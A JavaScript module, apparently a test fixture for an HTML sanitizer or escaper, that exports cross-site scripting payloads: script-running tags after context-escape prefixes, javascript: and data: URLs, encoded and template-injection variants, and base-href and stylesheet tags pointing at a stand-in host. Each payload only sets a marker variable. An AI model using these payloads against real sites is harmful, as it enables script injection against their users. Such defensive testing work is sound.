// Texts that would run as script wherever one of them were taken for markup, an address or code.
// Each tries to leave a mark: `owned` on the window.

const leaves = [
  "<script>owned=1</script>",
  "<img src=x onerror=owned=1>",
  "<svg onload=owned=1>",
  "<body onload=owned=1>",
  "<details open ontoggle=owned=1>",
  "<input autofocus onfocus=owned=1>",
  "<video><source onerror=owned=1>",
  "<iframe srcdoc='<script>parent.owned=1</script>'>",
  "<a href=javascript:owned=1>x</a>",
  "<form action=javascript:owned=1><button>x",
  "<math><mi href=javascript:owned=1>x",
  "<style onload=owned=1></style>",
];

/** What a text would have to leave first: an attribute, an element whose content is no markup, a comment. */
const escapes = ["", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "</noscript>", "</option></select>"];

const others = [
  "javascript:owned=1",
  " java\tscript:owned=1",
  "data:text/html,<script>owned=1</script>",
  "vbscript:owned=1",
  "{{constructor.constructor('owned=1')()}}",
  "${owned=1}",
  "%3Cscript%3Eowned=1%3C/script%3E",
  "&lt;script&gt;owned=1&lt;/script&gt;",
  "&#60;script&#62;owned=1&#60;/script&#62;",
  "\\u003cscript\\u003eowned=1\\u003c/script\\u003e",
  "＜script＞owned=1＜/script＞",
  "<scr<script>ipt>owned=1</scr</script>ipt>",
  "<!--<script>--><script>owned=1</script>",
  "<![CDATA[<script>owned=1</script>]]>",
  '";owned=1;//',
  "';owned=1;//",
  "`;owned=1;//",
  "\u2028owned=1\u2029",
  "</script><script>owned=1",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content=0;url=javascript:owned=1>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "x@example.com?body=<script>owned=1</script>",
  '"onmouseover="owned=1" x="',
  "<!>",
];

export const PAYLOADS = [...escapes.flatMap((escape) => leaves.map((leaf) => escape + leaf)), ...others];
